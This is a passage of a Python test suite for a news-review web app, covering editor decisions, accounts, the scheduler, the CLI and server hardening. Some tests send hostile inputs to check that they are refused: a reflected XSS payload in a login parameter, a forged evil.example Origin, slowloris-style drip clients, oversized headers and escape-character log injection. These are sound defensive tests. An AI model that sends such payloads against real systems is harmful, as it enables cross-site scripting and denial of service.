    width = browser.evaluate("document.documentElement.scrollWidth")
    assert width <= 390, width


def test_each_decision_names_its_editor_and_is_an_event_and_a_stale_one_is_refused(web):
    accounts = newsroom(web)
    conn = web.db.conn()
    classified_posts(conn, 1)
    post = post_ids(conn)[0]
    anna, boris = form_token(web, accounts["anna"]), form_token(web, accounts["boris"])
    status, _, _ = web.post(f"/posts/{post}/status", {"token": anna, "status": "approved",
                                                      "seen": "new"},
                            auth=False, headers={**accounts["anna"], "Accept": "application/json"})
    assert status == 200
    assert post_row(conn, post)["decided_by"] == "anna"
    # Boris's page still showed it new: his rejection is refused, naming anna.
    status, headers, body = web.post(f"/posts/{post}/status",
                                     {"token": boris, "status": "rejected", "seen": "new"},
                                     auth=False, headers={**accounts["boris"],
                                                          "Accept": "application/json"})
    assert status == 409 and "by anna" in body and headers["X-Vesti-Conflict"] == "decided"
    assert post_row(conn, post)["status"] == "approved"
    # From a browser without the page's script: a page that says so and leads back.
    status, headers, body = web.post(f"/posts/{post}/status",
                                     {"token": boris, "status": "rejected", "seen": "new",
                                      "back": "/?direction=linux"},
                                     auth=False, headers={**accounts["boris"],
                                                          "Accept": "text/html,*/*;q=0.8"})
    assert status == 409 and headers["Content-Type"].startswith("text/html")
    assert "<h2>Not decided</h2>" in body and "by anna" in body
    assert 'href="/?direction=linux">Back to the desk, as it is now</a>' in body
    # Seeing it approved, he may.
    assert web.post(f"/posts/{post}/status", {"token": boris, "status": "rejected",
                                               "seen": "approved"},
                    auth=False, headers=accounts["boris"])[0] == 303
    events = [tuple(r) for r in conn.execute(
        "SELECT user_name, address, action, subject, detail FROM events WHERE action = 'decide'")]
    assert events == [("anna", "127.0.0.1", "decide", f"post:{post}", "approved"),
                      ("boris", "127.0.0.1", "decide", f"post:{post}", "rejected")]
    page = web.get("/?status=any&min=0", auth=False, headers=accounts["vera"])[2]
    assert re.search(r'class="small muted decided">rejected by boris, 20\d\d-', page)
    assert 'class="decide"' not in page                       # a viewer has no buttons
    quality = web.get("/quality", auth=False, headers=accounts["vera"])[2]
    assert "0 of 1 agreed" in quality and "anna / boris" in quality


def test_editors_see_who_else_is_looking_at_a_card(web):
    accounts = newsroom(web)
    classified_posts(web.db.conn(), 1)
    post = post_ids(web.db.conn())[0]
    token = form_token(web, accounts["anna"])
    assert web.post(f"/posts/{post}/look", {"token": token}, auth=False,
                    headers={**accounts["anna"], "Accept": "application/json"})[0] == 200
    status, _, body = web.get(f"/api/looks?ids={post}", auth=False, headers=accounts["boris"])
    assert status == 200 and json.loads(body) == {str(post): ["anna"]}
    assert json.loads(web.get(f"/api/looks?ids={post}", auth=False,
                              headers=accounts["anna"])[2]) == {}      # not herself
    assert web.post(f"/posts/{post}/look", {"token": "forged"}, auth=False,
                    headers=accounts["anna"])[0] == 403


def test_an_admin_manages_accounts_on_the_users_page_and_names_are_safe(web):
    accounts = newsroom(web)
    token = form_token(web, accounts["olga"])
    assert web.post("/users", {"token": token, "name": "<script>x", "role": "editor",
                               "password": "long-enough"}, auth=False,
                    headers=accounts["olga"])[0] == 400
    assert web.post("/users", {"name": "petr", "role": "editor", "password": "long-enough"},
                    auth=False, headers=accounts["olga"])[0] == 403       # no token
    assert web.post("/users", {"token": token, "name": "petr", "role": "editor",
                               "password": "long-enough"}, auth=False, headers=accounts["olga"],
                    origin="http://evil.example")[0] == 403
    assert web.post("/users", {"token": token, "name": "petr", "role": "editor",
                               "password": "short"}, auth=False, headers=accounts["olga"])[0] == 400
    assert web.post("/users", {"token": token, "name": "petr", "role": "editor",
                               "password": "long-enough"}, auth=False, headers=accounts["olga"])[0] == 303
    assert web.get("/", auth=False, headers=basic("petr", "long-enough"))[0] == 200
    assert web.post("/users/petr", {"token": token, "action": "disable"}, auth=False,
                    headers=accounts["olga"])[0] == 303
    assert web.get("/", auth=False, headers=basic("petr", "long-enough"))[0] == 401
    page = web.get("/users", auth=False, headers=accounts["olga"])[2]
    assert 'id="user-petr"' in page and "disabled" in page and "added a user" in page
    assert "long-enough" not in page
    # The sign-in page's own field says nothing a stranger's link put there.
    page = web.get('/login?next="><script>alert(1)</script>', auth=False)[2]
    assert "<script>alert(1)" not in page and 'name="next" value="/"' in page


def test_the_user_command_adds_lists_and_disables_accounts(home):
    write_sources(home / "sources.yaml", [])
    env = cli_env({"VESTI_DB": BACKEND["db"] or str(home / "vesti.db")})

    def user(*args, password=None):
        return subprocess.run([*VESTI, "user", *args], cwd=home, input=password, env=env,
                              capture_output=True, text=True, timeout=60)
    added = user("add", "anna", "--role", "admin", password="anna-password\n")
    assert added.returncode == 0 and "anna added as admin" in added.stdout
    assert "anna-password" not in added.stdout + added.stderr
    again = user("add", "anna", password="anna-password\n")
    assert again.returncode == 2 and "exists already" in again.stderr
    short = user("add", "boris", password="short\n")
    assert short.returncode == 2 and "at least 8 characters" in short.stderr
    assert len(short.stderr.strip().splitlines()) == 1
    assert user("disable", "anna").returncode == 0
    listed = user("list")
    assert re.search(r"^anna: admin, disabled", listed.stdout, re.M)
    conn = vesti.Database(BACKEND["db"] or str(home / "vesti.db")).conn()
    kept = conn.execute("SELECT password_hash FROM users WHERE name = 'anna'").fetchone()[0]
    # a command hashes at the kept cost (N=2**14, r=8, p=5), not the tests' cheap one
    assert kept.startswith("scrypt:16384:8:5:") and "anna-password" not in kept
    assert [r[0] for r in conn.execute("SELECT action FROM events ORDER BY id")] == \
        ["user add", "user change"]


# Web server: slow clients, the access log, posts that do not exist ------------

def test_a_client_that_drips_its_request_is_dropped_while_others_are_served(web, monkeypatch,
                                                                            closing):
    monkeypatch.setattr(vesti.WebHandler, "request_deadline", 1)
    request = (b"GET /api/queue HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: "
               + web.auth.encode() + b"\r\nX-Slow: " + b"z" * 100 + b"\r\n\r\n")
    slow = closing(socket.create_connection(("127.0.0.1", web.port), timeout=10))
    dropped, answered = False, None
    give_up = time.monotonic() + 8
    for byte in request:                               # one byte every 0.5 s
        try:
            slow.sendall(bytes([byte]))
        except OSError:
            dropped = True
            break
        if answered is None:                           # a normal request meanwhile
            answered = web.get("/api/queue")
        if select.select([slow], [], [], 0.5)[0]:
            try:
                dropped = slow.recv(65536) == b""
            except OSError:
                dropped = True
            break
        if time.monotonic() > give_up:
            break
    assert dropped
    assert answered[0] == 200 and json.loads(answered[2])["pending"] == 0


@pytest.mark.slow
def test_slow_clients_that_reconnect_leave_the_page_to_its_editors(web, monkeypatch, caplog,
                                                                   closing):
    """80 clients from two addresses drip their headers and reconnect as
    soon as they are dropped; an editor's requests meanwhile are answered,
    and the log names each of those addresses a few times, not once a
    connection."""
    monkeypatch.setattr(vesti.WebHandler, "request_deadline", 1)
    answered, failed = [], []
    with caplog.at_level(logging.WARNING, logger="vesti"):
        attack = closing(SlowClients(web.port, ["127.0.0.2", "127.0.0.3"], count=80, every=0.5))
        ends = time.monotonic() + 2.5
        while time.monotonic() < ends:
            started = time.monotonic()
            try:
                status, _, body = web.get("/api/queue")
            except OSError as e:
                failed.append(repr(e))
                continue
            if status == 200 and time.monotonic() - started < 5:
                answered.append(json.loads(body)["pending"])
            else:
                failed.append(status)
        attack.close()
    assert len(answered) >= 0.9 * (len(answered) + len(failed)) and len(answered) >= 20, \
        (len(answered), failed[:5])
    assert attack.connections > 120                        # they were dropped and came back
    warnings = [r.getMessage() for r in caplog.records if r.levelno >= logging.WARNING]
    for host in ("127.0.0.2", "127.0.0.3"):
        told = [w for w in warnings if host in w]
        assert 1 <= len(told) <= 3, told[:5]
    assert not [w for w in warnings if "127.0.0.1" in w]


def test_connections_kept_open_after_a_page_hold_no_thread(web, closing):
    """Browsers keep their connections open after a page: a hundred of them
    left idle, from four addresses, neither take a thread each nor keep the
    next editor out."""
    threads = threading.active_count()
    for i in range(100):                            # each kept open until the test ends
        conn = closing(http.client.HTTPConnection("127.0.0.1", web.port, timeout=10,
                                                  source_address=(f"127.0.0.{2 + i % 4}", 0)))
        conn.request("GET", "/healthz")
        response = conn.getresponse()
        assert (response.status, response.read(), response.will_close) == (200, b"ok\n", False)
    assert web.get("/api/queue")[0] == 200
    assert threading.active_count() - threads < 10


def raw_answer(port, request):
    """What the page answers to `request`, sent as it is, until it closes
    the connection."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as raw:
        raw.sendall(request)
        answer = b""
        with contextlib.suppress(ConnectionResetError):
            while chunk := raw.recv(65536):
                answer += chunk
    return answer


def test_a_request_head_over_64_kib_is_refused_and_others_are_served(web):
    filler = b"".join(b"X-Filler-%d: %s\r\n" % (i, b"y" * 1000) for i in range(70))
    answer = raw_answer(web.port, b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                                  b"Connection: close\r\n" + filler + b"\r\n")
    assert answer.startswith(b"HTTP/1.1 431 ")
    assert web.get("/healthz", auth=False)[0] == 200


def test_a_head_too_large_is_refused_having_received_no_more_than_the_longest(web,
                                                                             monkeypatch):
    """A client sending an 80 KB head in one go: the server takes one byte
    past the longest head it answers, not what the client sent, to refuse it."""
    held = []

    class Watched(vesti.WebConnection):
        def request_size(self):
            held.append(len(self.received))
            return super().request_size()

    monkeypatch.setattr(vesti, "WebConnection", Watched)
    answer = raw_answer(web.port, b"GET / HTTP/1.1\r\nX-Big: " + b"y" * 80000)
    assert answer.startswith(b"HTTP/1.1 431 ")
    assert max(held) == vesti.MAX_REQUEST_HEAD + 1


def test_a_body_length_of_thousands_of_digits_is_refused_and_the_page_goes_on(web):
    """Python refuses to make a number of over 4,300 digits: such a
    Content-Length, read before the password is checked, is refused as too
    large, and the page stays up for everyone."""
    answer = raw_answer(web.port, b"POST /crawlers/reset HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                                  b"Authorization: " + web.auth.encode() + b"\r\n"
                                  b"Content-Length: " + b"9" * 5000 + b"\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 413 ")
    assert web.get("/healthz", auth=False)[0] == 200
    assert web.get("/")[0] == 200


def test_a_failure_reading_one_request_closes_that_connection_only(web, monkeypatch, caplog):
    """No thread to be had for one request (or any slip of the thread that
    reads them all) costs that request: its connection is closed, the log
    has the traceback once, and the page goes on."""
    give = web.server.workers.give

    def no_thread(conn):
        monkeypatch.setattr(web.server.workers, "give", give)
        raise RuntimeError("can't start new thread")

    monkeypatch.setattr(web.server.workers, "give", no_thread)
    with caplog.at_level(logging.ERROR, logger="vesti"):
        answer = raw_answer(web.port, b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
    assert answer == b""
    assert web.get("/healthz", auth=False)[0] == 200
    assert web.get("/")[0] == 200
    failures = [r for r in caplog.records if r.exc_info]
    assert len(failures) == 1 and "127.0.0.1" in failures[0].getMessage()
    assert "can't start new thread" in caplog.text


def closed_by_the_server(socks, count, within=30):
    """Waits until the server has closed `count` of `socks`; how many it has."""
    open_, closed = list(socks), 0
    give_up = time.monotonic() + within
    while closed < count and open_ and time.monotonic() < give_up:
        for sock in select.select(open_, [], [], max(0, give_up - time.monotonic()))[0]:
            with contextlib.suppress(ConnectionResetError):
                if sock.recv(65536):
                    continue
            open_.remove(sock)
            closed += 1
    return closed


def test_requests_coming_in_hold_no_more_memory_than_the_servers_budget(home, monkeypatch,
                                                                        caplog, closing):
    """Clients from a few addresses each send most of a 64 KiB request head
    and no more: past the bytes the server may hold for requests coming in,
    their oldest are dropped (and told in the log), and an editor is served."""
    budget = 1024 * 1024
    monkeypatch.setattr(vesti.WebServer, "max_buffered", budget)
    monkeypatch.setattr(vesti.WebHandler, "request_deadline", 60)
    head = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Big: " + b"y" * 60000
    web, clients = closing(Web(home)), []
    with caplog.at_level(logging.WARNING, logger="vesti"):
        for i in range(40):
            address = (f"127.0.0.{2 + i % 4}", 0)
            clients.append(closing(socket.create_connection(("127.0.0.1", web.port), timeout=10,
                                                            source_address=address)))
            clients[-1].sendall(head)
        too_many = 40 - budget // len(head)
        assert closed_by_the_server(clients, too_many) >= too_many
        assert web.server.waiting.buffered <= budget
        assert web.get("/")[0] == 200
    told = [r.getMessage() for r in caplog.records if "1 MiB" in r.getMessage()]
    assert told and all("dropped" in line for line in told), told


def test_requests_dropped_are_told_once_a_minute_per_client(caplog):
    now = 0.0
    dropped = vesti.DroppedRequests(32, 512, clock=lambda: now)
    with caplog.at_level(logging.WARNING, logger="vesti"):
        for _ in range(500):                                # 50 s of reconnecting
            dropped.count("127.0.0.9", "slow")
            now += 0.1
        dropped.count("127.0.0.8", "crowded")
        dropped.tell_due()
        now = 61.0
        dropped.tell_due()
        dropped.tell_due()
    assert [r.getMessage() for r in caplog.records] == [
        "web: 127.0.0.9 sent 1 request too slowly; dropped",
        "web: 127.0.0.8 had more than 32 requests coming at once; 1 dropped, the oldest first",
        "web: 127.0.0.9 sent 499 requests too slowly; dropped"]


def test_a_page_keeps_its_connection_open_and_an_idle_or_refused_one_is_closed(web, monkeypatch,
                                                                            caplog, closing):
    """Pages come one after the other on one connection (a browser's
    refresh); a refusal, a posted form or a connection left idle past the
    deadline end it, the last without a line in the log."""
    monkeypatch.setattr(vesti.WebHandler, "request_deadline", 0.5)
    conn = closing(http.client.HTTPConnection("127.0.0.1", web.port, timeout=10))
    statuses = []
    for path in ("/", "/crawlers", "/api/queue"):
        conn.request("GET", path, headers={"Authorization": web.auth})
        response = conn.getresponse()
        response.read()
        statuses.append((response.status, response.will_close))
    assert statuses == [(200, False)] * 3
    first = conn.sock
    conn.request("GET", "/healthz")
    conn.getresponse().read()
    assert conn.sock is first                                    # the same connection
    with caplog.at_level(logging.INFO, logger="vesti"):
        time.sleep(0.8)                                          # idle past the deadline
        assert first.recv(1) == b""                              # closed by the server
    assert not [r for r in caplog.records if "timed out" in r.getMessage()]
    classified_posts(web.db.conn(), 1)
    form = {"Authorization": web.auth, "Origin": web.origin,
            "Content-Type": "application/x-www-form-urlencoded"}
    for method, path, headers, body, status in (
            ("GET", "/", {}, None, 401),                                     # no password
            ("POST", "/posts/1/status", form, "status=approved", 403),       # no token
            ("POST", "/posts/1/status", form,
             urllib.parse.urlencode({"token": web.token(), "status": "approved"}), 303)):
        conn = closing(http.client.HTTPConnection("127.0.0.1", web.port, timeout=10))
        conn.request(method, path, body=body, headers=headers)
        response = conn.getresponse()
        response.read()
        assert (response.status, response.will_close) == (status, True)
        assert conn.sock is None or conn.sock.recv(1) == b""


def test_a_connection_answered_as_the_server_closes_is_closed_too(web, closing):
    """The server closing just as a page's answering thread gives the
    connection back: it is closed all the same, not left open until the
    process ends."""

    class ClosingMeanwhile(queue.SimpleQueue):
        def put(self, item, block=True, timeout=None):
            web.server.shutdown()
            web.server.server_close()
            super().put(item)

    web.server.returned = ClosingMeanwhile()
    conn = closing(http.client.HTTPConnection("127.0.0.1", web.port, timeout=10))
    conn.request("GET", "/healthz")
    response = conn.getresponse()
    assert (response.status, response.read(), response.will_close) == (200, b"ok\n", False)
    assert conn.sock.recv(1) == b""


def test_control_characters_of_a_request_line_are_escaped_in_the_access_log(web, caplog):
    with caplog.at_level(logging.INFO, logger="vesti.access"):
        with socket.create_connection(("127.0.0.1", web.port), timeout=10) as raw:
            raw.sendall(b"GET /\x1b[31mred\x07 HTTP/1.0\r\n\r\n")
            answer = b""
            while chunk := raw.recv(65536):
                answer += chunk
    assert answer.split(b"\r\n")[0].split()[1] == b"401"
    lines = [r.getMessage() for r in caplog.records
             if r.name == "vesti.access" and "red" in r.getMessage()]
    assert lines
    assert not any("\x1b" in line or "\x07" in line for line in lines), lines
    assert any(r"\x1b[31mred\x07" in line for line in lines), lines


@both
@pytest.mark.parametrize("post_id", ["99999999999999999999", "12345"])
def test_deciding_on_a_post_that_does_not_exist_is_404(web, post_id):
    conn = web.db.conn()
    classified_posts(conn, 1)
    status, _, _ = web.post(f"/posts/{post_id}/status", {"token": web.token(), "status": "approved"})
    assert status == 404
    assert statuses(conn) == {1: "new"}


# Scheduler: run, everything at once -------------------------------------------

def run_process(closing, home, *args, env=None):
    """`vesti.py run` in its own process, with the page on a free port and
    the password "pw"; returns (process, port)."""
    process = closing(subprocess.Popen(
        [*VESTI, "run", *args], cwd=home, text=True,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        env={**os.environ, "VESTI_WEB_PORT": "0", "RSS_HOST_DELAY": "0",
             "VESTI_WEB_PASSWORD": "pw", **(env or {})}))
    return process, int(re.search(r"http://127\.0\.0\.1:(\d+)/", first_lines(process))[1])


def stop_process(process):
    """SIGTERM, then the process's (stdout, stderr) once it has ended; one
    still running after 15 s fails the test, saying where its threads were."""
    process.send_signal(signal.SIGTERM)
    return ended(process, timeout=15)


def test_a_command_that_seems_stuck_tells_where_its_threads_are_and_goes_on(home, closing):
    write_sources(home / "sources.yaml", [])
    process = closing(subprocess.Popen([*VESTI, "serve", "--port", "0"], cwd=home, text=True,
                                       stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                       env=cli_env({"VESTI_WEB_PASSWORD": "pw"})))
    port = int(re.search(r"http://127\.0\.0\.1:(\d+)/", first_lines(process))[1])
    process.send_signal(signal.SIGUSR1)
    said = b""
    while not all(name in said for name in (b"in cmd_serve", b"in serve_forever")):
        assert select.select([process.stderr], [], [], 20)[0], said
        chunk = os.read(process.stderr.fileno(), 65536)
        assert chunk, said
        said += chunk
    assert b"vesti.py" in said and b"pw" not in said
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    conn.request("GET", "/healthz")
    assert conn.getresponse().status == 200         # it went on
    stop_process(process)
    assert process.returncode == 0


@pytest.mark.slow
def test_run_crawls_classifies_serves_and_stops_on_sigterm(home, server, ollama, closing):
    server.feed("/feed", rss(items(5, host=server.url)))
    write_sources(home / "sources.yaml", [rss_source("lwn", server.url + "/feed", direction="linux")])
    process, port = run_process(closing, home, env={"OLLAMA_URL": ollama.url})
    auth = {"Authorization": "Basic " + base64.b64encode(b"admin:pw").decode()}

    def candidates():
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
        conn.request("GET", "/", headers=auth)
        return conn.getresponse().read().decode()
    assert wait_for(lambda: candidates().count('class="post"') == 5, timeout=15)
    page = candidates()
    assert "Summary: Post number 0" in page and "relevance <b>8</b>" in page
    out, err = stop_process(process)
    assert process.returncode == 0, err
    assert "pw" not in out + err
    # A line per crawl and per spell of work on the console, none per page asked.
    assert re.search(r"^crawl: priority 0: 1 source \(1 ok.*5 new posts in [0-9.]+ s$", out, re.M)
    # Each line tells what was done since the one before: once nothing is
    # left to claim, or after a minute of work (a slow machine's first spell).
    spells = re.findall(r"^worker: (\d+) processed \(.* in [0-9.]+ s; "
                        r"(nothing left to claim|\d+ waiting)$", out, re.M)
    assert sum(int(n) for n, _ in spells) == 5 and spells[-1][1] == "nothing left to claim"
    assert "GET /" not in err
    conn = sqlite3.connect(home / "vesti.db")
    assert conn.execute("SELECT count(*) FROM posts WHERE classified = -1").fetchone()[0] == 0
    assert conn.execute("SELECT trigger FROM runs").fetchone()[0] == "schedule"


@pytest.mark.slow
def test_run_makes_one_story_of_four_outlets_copies_and_asks_the_llm_once(home, server, ollama,
                                                                          closing):
    wrappers = ("", "From our correspondent: ", "Repost: ", "Breaking: ")
    for k, prefix in enumerate(wrappers):
        server.feed(f"/{k}", rss([{"guid": f"budget-{k}", "link": f"{server.url}/{k}/budget",
                                   "title": f"Budget, as outlet {k} tells it",
                                   "text": prefix + STORY + " The kernel of the plan is buses."}]))
    write_sources(home / "sources.yaml", [rss_source(f"outlet{k}", f"{server.url}/{k}",
                                                     direction="linux") for k in range(4)])
    process, _ = run_process(closing, home, "--workers", "1", env={"OLLAMA_URL": ollama.url})
    conn = sqlite3.connect(home / "vesti.db")
    assert wait_for(lambda: conn.execute("SELECT count(*) FROM posts WHERE classified = 1")
                    .fetchone()[0] == 4, timeout=20)
    out, err = stop_process(process)
    assert process.returncode == 0, err
    assert len(ollama.titles()) == 1
    stories = set(story_ids(conn))
    assert len(stories) == 1 and None not in stories


@both
def test_run_picks_up_new_directions_when_sources_yaml_changes(home, server):
    s, db = intake(home, [rss_source("a", server.url + "/a")])
    registry = vesti.load_registry(s.sources)
    classifier = vesti.Classifier(registry, s)
    seen = []
    scheduler = vesti.Scheduler(db, s, registry, threading.Event(),
                                listeners=(classifier.use, seen.append))
    post = vesti.Claimed(None, "A rocket reached orbit", "The rocket flew.")
    assert classifier(post).direction == "space"
    text = (home / "sources.yaml").read_text().replace("keywords: [rocket, orbit]",
                                                       "keywords: [rocket, orbit]\n  sea:\n"
                                                       "    title: Sea\n    keywords: [flew, orbit, reached]")
    (home / "sources.yaml").write_text(text)
    os.utime(home / "sources.yaml", (time.time() + 5, time.time() + 5))
    scheduler.reload_sources()
    assert "sea" in seen[0].directions
    assert classifier(post).direction == "sea"


@both
def test_a_rejected_sources_yaml_edit_is_on_every_page_until_a_good_one_loads(home, closing):
    s, db = intake(home, [rss_source("a", "http://127.0.0.1:9/a")], VESTI_WEB_PASSWORD="pw")
    web = closing(Web(home, password="pw", settings=s))       # `serve`, beside `run`'s scheduler
    scheduler = vesti.Scheduler(db, s, vesti.load_registry(s.sources), threading.Event())
    good = (home / "sources.yaml").read_text()

    def edit(text):
        (home / "sources.yaml").write_text(text)
        os.utime(home / "sources.yaml", (time.time() + 5, time.time() + 5))
        scheduler.reload_sources()
    edit(good + "  - {slug: b, crawler: atom, url: 'http://x/'}\n")
    for path in ("/", "/crawlers", "/?lang=ru"):
        banner = re.search(r'<p class="banner"[^>]*>([^<]*sources\.yaml[^<]*)</p>',
                           web.get(path)[2])
        assert banner and "source &#x27;b&#x27;: unknown crawler &#x27;atom&#x27;" in banner[1]
    assert "The sources are as they were" in web.get("/")[2]
    assert "Источники остались прежними" in web.get("/?lang=ru")[2]
    assert [r[0] for r in db.conn().execute("SELECT slug FROM sources")] == ["a"]
    edit(good.replace("slug: a", "slug: c"))
    assert "unknown crawler" not in web.get("/")[2]
    assert "unknown crawler" not in web.get("/crawlers")[2]
    edit(good + "  - {slug: b, crawler: atom, url: 'http://x/'}\n")
    (home / "sources.yaml").write_text(good)
    vesti.open_intake(s)[1].close()                 # any command that loads it
    assert "unknown crawler" not in web.get("/")[2]


@pytest.mark.slow
def test_sigterm_stops_a_crawl_and_closes_its_runs(home, closing):
    srv = closing(FeedServer())
    release = threading.Event()
    srv.routes["/slow"] = lambda request: release.wait(30) and None
    write_sources(home / "sources.yaml", [rss_source("slow", srv.url + "/slow")] +
                  [rss_source(f"s{k}", f"{srv.url}/slow?{k}") for k in range(3)])
    process = closing(subprocess.Popen([*VESTI, "rss", "--all"],
                                       cwd=home, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                       text=True, env={**os.environ, "RSS_TIMEOUT": "30",
                                                       "VESTI_STOP_GRACE": "0.5"}))
    assert wait_for(lambda: len(srv.requests) == 1)
    started = time.monotonic()
    process.send_signal(signal.SIGTERM)
    out, err = process.communicate(timeout=20)
    release.set()
    assert process.returncode == 128 + signal.SIGTERM, err
    assert time.monotonic() - started < 4
    assert "interrupted; 1 unfinished runs recorded as interrupted" in err
    runs = sqlite3.connect(home / "vesti.db").execute("SELECT status FROM runs").fetchall()
    assert runs == [("interrupted",)]                   # the other sources were never started
    assert len(srv.requests) == 1


@both
def test_runs_left_running_by_a_dead_process_are_closed(home):
    s, db = intake(home, [rss_source("a", "http://127.0.0.1:9/a")])
    gone = subprocess.Popen([sys.executable, "-c", "pass"])
    gone.wait()
    db.conn().execute("INSERT INTO runs (source_id, task, status, pid) VALUES (1, 'rss', 'running', ?)",
                      (gone.pid,))
    db.conn().execute("INSERT INTO runs (source_id, task, status, pid) VALUES (1, 'rss', 'running', ?)",
                      (os.getpid(),))
    vesti.open_intake(s)
    statuses = [r[0] for r in db.conn().execute("SELECT status FROM runs ORDER BY id")]
    assert statuses == ["interrupted", "running"]


@both
def test_the_scheduler_crawls_each_priority_on_its_interval(home, server):
    for slug in "abc":
        server.feed(f"/{slug}", rss(items(1, host=server.url + "/" + slug)))
    s, db = intake(home, [rss_source("a", server.url + "/a", priority=0),
                          rss_source("b", server.url + "/b", priority=1),
                          rss_source("c", server.url + "/c", priority=5)],
                   VESTI_CRAWL_EVERY="10m,1h")
    start = time.time()
    now = [start]
    scheduler = vesti.Scheduler(db, s, vesti.load_registry(s.sources), threading.Event(),
                                clock=lambda: now[0])
    assert scheduler.tick() == [0, 1, 5]
    assert scheduler.join(10)
    now[0] = start + 901                          # every slot of 0 has come, none of 1
    assert scheduler.tick() == [0]
    assert scheduler.join(10)
    now[0] = start + 5401
    assert scheduler.tick() == [0, 1, 5]          # priority 5 takes the last interval
    assert scheduler.join(10)


# Command line -----------------------------------------------------------------

def test_rss_command_and_its_shim_crawl_and_report(home, server):
    server.feed("/feed", rss(items(3, host=server.url)))
    write_sources(home / "sources.yaml", [rss_source("lwn", server.url + "/feed", direction="linux"),
                                          rss_source("other", server.url + "/missing")])
    env = {"RSS_HOST_DELAY": "0", "PYTHONPATH": str(ROOT)}
    result = cli("rss", "--source", "lwn", "--trigger", "cron", cwd=home, env=env)
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("rss: 1 source (1 ok, 0 deferred, 0 failed), 3 new posts in ")
    shim = subprocess.run([sys.executable, "-m", "crawler.rss_crawler", "--all", "--db",
                           str(home / "vesti.db")], cwd=home, capture_output=True, text=True,
                          env=cli_env({**env, "VESTI_SOURCES": str(home / "sources.yaml")}),
                          timeout=60)
    assert shim.returncode == 0, shim.stderr             # a failing source is not a failing run
    assert "2 sources (1 ok, 0 deferred, 1 failed: other)" in shim.stdout
    status = json.loads(cli("--db", "vesti.db", "status", "--json", cwd=home).stdout)
    assert status["queue"] == {"pending": 3, "processing": 0, "done_today": 0, "failed": 0}
    health = {s["slug"]: s for s in status["sources"]}
    assert health["other"]["last_error"] == "HTTP 404 Not Found"
    assert health["lwn"]["etag"] == '"v1"'
    conn = sqlite3.connect(home / "vesti.db")
    assert conn.execute("SELECT trigger FROM runs ORDER BY id LIMIT 1").fetchone()[0] == "cron"
    text = cli("status", cwd=home).stdout
    assert "pending 3" in text and "HTTP 404 Not Found" in text


@both
def test_rss_by_direction_takes_only_that_direction(home, server):
    server.feed("/a", rss(items(1, host=server.url + "/a")))
    server.feed("/b", rss(items(1, host=server.url + "/b")))
    s, db = intake(home, [rss_source("a", server.url + "/a", direction="linux"),
                          rss_source("b", server.url + "/b", direction="space")])
    crawl(s, db, ("direction", "space"))
    assert [p for p, *_ in server.requests] == ["/b"]


@pytest.mark.parametrize("args,message", [
    (["rss", "--source", "nope"], "unknown source 'nope'"),
    (["rss", "--direction", "sport"], "unknown direction 'sport'"),
    (["rss"], "one of the arguments --all --direction --source is required"),
])
def test_rss_usage_errors_exit_2(home, args, message):
    write_sources(home / "sources.yaml", [rss_source("a", "http://127.0.0.1:9/a")])
    result = cli(*args, cwd=home)
    assert result.returncode == 2 and message in result.stderr


def test_init_is_idempotent_and_reports_the_sources(home):
    write_sources(home / "sources.yaml", [rss_source("a", "http://127.0.0.1:9/a")])
    for _ in range(2):
        result = cli("init", "--db", "data.db", cwd=home)
        assert result.returncode == 0 and "1 enabled sources" in result.stdout
    assert (home / "data.db").exists()


# The repository ---------------------------------------------------------------

# Each benchmark, its arguments in smoke mode, and a figure line it prints
# near its end, with a number in it.
BENCHMARKS = [
    ("crawl", [], r"second / ideal = \d+\.\d+ +target <= "),
    ("worker", [], r"wall / ideal = \d+\.\d+ +target <= "),
    ("web", [], r"GET /api/queue +median +\d+\.\d ms"),
    ("stories", ["--corpus", str(CORPUS)], r"median = \d+\.\d+ ms +target < 5 ms"),
    ("first_morning", ["--corpus", str(CORPUS)], r"full desk +\d+\.\d"),
    ("learning", [], r"mean P@20 = \d\.\d\d +goal >= 0\.9"),
    ("publish", [], r"run +approve to message: median min \d+\.\d+ s"),
    # one fault of its matrix (the suite has a test of each)
    ("outbox", ["--faults", "13"],
     r"13 +\| T hostile link \(6,300 ch\) +\| sqlite +\| 2 +\| 1/1/1"),
]
# reader, a peer, runs from a venv of its own (.ci/run makes one and names it).
if os.environ.get("VESTI_READER_PYTHON"):
    BENCHMARKS.append(("reader_compare", ["--python", os.environ["VESTI_READER_PYTHON"]],
                       r"wall VESTI / reader = \d+\.\d+ +goal <= (?s:.*)"
                       r"VESTI +wall min .* stored entries 60"))


@pytest.mark.slow
def test_every_benchmark_runs_in_smoke_mode(tmp_path, closing):
    """Each benchmark runs end to end with tiny sizes, prints its figures and
    exits 0; one that a change in vesti broke (an exception, a vesti command
    exiting non-zero, a check not holding, no posts stored) exits non-zero.
    They run side by side: most of a smoke run is waiting on its servers and
    its vesti commands."""
    runs = {}
    for name, more, _ in BENCHMARKS:
        (tmp_path / name).mkdir()
        with open(tmp_path / name / "output", "w") as output:
            runs[name] = closing(subprocess.Popen(
                [sys.executable, str(ROOT / "bench" / f"{name}.py"), "--smoke", *more],
                cwd=tmp_path / name, stdout=output, stderr=subprocess.STDOUT))
    for name, _, marker in BENCHMARKS:
        code = runs[name].wait(timeout=180)
        output = (tmp_path / name / "output").read_text()
        assert code == 0, f"bench/{name}.py --smoke:\n{output[-3000:]}"
        assert re.search(marker, output), f"bench/{name}.py --smoke:\n{output[-3000:]}"


def test_the_web_comparison_sums_up_its_rounds(capsys, monkeypatch):
    """bench/web.py --compare --rounds: per path the least and the median of
    the rounds' medians on each side, and new/old of the medians; a path the
    old vesti has not is n/a; the verdict is the new side's."""
    monkeypatch.syspath_prepend(str(ROOT / "bench"))
    import web as bench_web
    cases = [bench_web.Case("desk /", "/", old="/", target=(20, 50)),
             bench_web.Case("search", "/?q=x", target=(20, 50))]
